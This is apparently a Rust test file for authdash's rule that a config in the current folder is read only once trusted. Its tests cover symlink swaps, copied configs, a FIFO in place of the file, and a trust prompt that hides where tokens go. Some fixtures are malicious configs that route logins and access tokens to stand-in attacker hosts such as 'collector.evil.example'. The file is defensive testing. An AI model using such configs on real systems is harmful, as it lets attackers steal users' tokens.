//! Attacks on rule 2 (a config found in the current folder is read only
//! once trusted): symlinks swapped in after trust, a FIFO in place of the
//! file, and a trust prompt that hides where the tokens would go.

use std::path::PathBuf;
use std::time::Duration;

use authdash::config::trust::{self, ConfigOrigin, LoadError, TrustError};

const ISSUER: &str = "https://idp.example.com/.well-known/openid-configuration";

fn config_text(extra: &str) -> String {
    format!("[auth]\nclient_id = \"cid\"\nserver_metadata_url = \"{ISSUER}\"\n{extra}")
}

struct Folder {
    tmp: tempfile::TempDir,
}

impl Folder {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join("project").join(".streamlit")).unwrap();
        Self { tmp }
    }

    fn config(&self) -> PathBuf {
        self.tmp
            .path()
            .join("project")
            .join(".streamlit")
            .join("secrets.toml")
    }

    fn data(&self) -> PathBuf {
        self.tmp.path().join("data").join("authdash")
    }

    fn elsewhere(&self, name: &str, text: &str) -> PathBuf {
        let path = self.tmp.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
}

fn refused(result: Result<String, TrustError>, what: &str) {
    match result {
        Err(TrustError::Untrusted(_)) => {}
        other => panic!("{what}: expected the file to be untrusted, got {other:?}"),
    }
}

fn load(f: &Folder) -> Result<authdash::config::Config, LoadError> {
    trust::load(
        ConfigOrigin::CurrentFolder,
        &f.config(),
        &f.data(),
        &|name| panic!("an environment variable ({name}) was read"),
    )
}

/// Trusted, then replaced by a symbolic link to another file: what is
/// read is not what was trusted.
#[cfg(unix)]
#[test]
fn attack_trusted_config_replaced_by_a_symlink_to_other_content() {
    let f = Folder::new();
    std::fs::write(f.config(), config_text("")).unwrap();
    trust::trust(&f.data(), &f.config()).expect("trusted");
    let evil = f.elsewhere(
        "evil.toml",
        &config_text("client_secret_env = \"HOME\"\n").replace("idp.example.com", "evil.example"),
    );
    std::fs::remove_file(f.config()).unwrap();
    std::os::unix::fs::symlink(&evil, f.config()).unwrap();
    refused(trust::check(&f.data(), &f.config()), "symlinked file");
    assert!(matches!(load(&f), Err(LoadError::Trust(_))));
}

/// Trusted, then its folder `.streamlit` replaced by a link to a folder
/// holding the very same text: another file, not trusted.
#[cfg(unix)]
#[test]
fn attack_streamlit_folder_swapped_for_a_symlink_after_trust() {
    let f = Folder::new();
    std::fs::write(f.config(), config_text("")).unwrap();
    trust::trust(&f.data(), &f.config()).expect("trusted");
    let other = f.tmp.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("secrets.toml"), config_text("")).unwrap();
    let streamlit = f.config().parent().unwrap().to_owned();
    std::fs::remove_dir_all(&streamlit).unwrap();
    std::os::unix::fs::symlink(&other, &streamlit).unwrap();
    refused(trust::check(&f.data(), &f.config()), "symlinked folder");
    // Writable by an attacker later: a change there asks again.
    std::fs::write(
        other.join("secrets.toml"),
        config_text("").replace("idp", "evil"),
    )
    .unwrap();
    refused(trust::check(&f.data(), &f.config()), "changed");
}

/// The same bytes at another path are another file: a repository that
/// copies a trusted config gets no trust from it.
#[test]
fn attack_copy_of_a_trusted_config_in_another_folder() {
    let f = Folder::new();
    std::fs::write(f.config(), config_text("")).unwrap();
    trust::trust(&f.data(), &f.config()).expect("trusted");
    let copy = f.elsewhere("secrets.toml", &config_text(""));
    refused(trust::check(&f.data(), &copy), "copy");
}

/// A FIFO in place of `secrets.toml` (an unpacked archive can hold one):
/// authdash must not hang reading it, waiting for a writer that never
/// comes.
#[cfg(unix)]
#[test]
fn attack_fifo_in_place_of_the_config_does_not_hang() {
    let f = Folder::new();
    let path = f.config();
    let c = std::ffi::CString::new(path.as_os_str().to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
    let data = f.data();
    let (tx, rx) = std::sync::mpsc::channel();
    let probe = path.clone();
    std::thread::spawn(move || {
        let _ = tx.send(trust::check(&data, &probe).map(drop));
    });
    let result = rx.recv_timeout(Duration::from_secs(5));
    if result.is_err() {
        // Unblock the reader so the test process can end.
        let _ = std::fs::OpenOptions::new().write(true).open(&path);
    }
    let result = result.expect("checking a FIFO hung: authdash waits for a writer for ever");
    assert!(result.is_err(), "a FIFO is no config");
}

/// What a trusted config decides is not only where logins go: a panel's
/// `data_url` receives the access token. The message asking for trust
/// shows every place tokens would be sent, not only the issuers.
#[test]
fn attack_trust_prompt_hides_where_panels_send_the_access_token() {
    let f = Folder::new();
    std::fs::write(
        f.config(),
        config_text(
            "\n[[authdash.panels]]\nid = \"x\"\ntitle = \"Usage\"\n\
             data_url = \"https://collector.evil.example/{org_id}\"\n",
        ),
    )
    .unwrap();
    let message = match trust::check(&f.data(), &f.config()) {
        Err(e @ TrustError::Untrusted(_)) => e.to_string(),
        other => panic!("expected untrusted, got {other:?}"),
    };
    assert!(message.contains("idp.example.com"), "{message}");
    assert!(
        message.contains("collector.evil.example"),
        "the prompt does not say that the access token would go to the panel's host:\n{message}"
    );
}
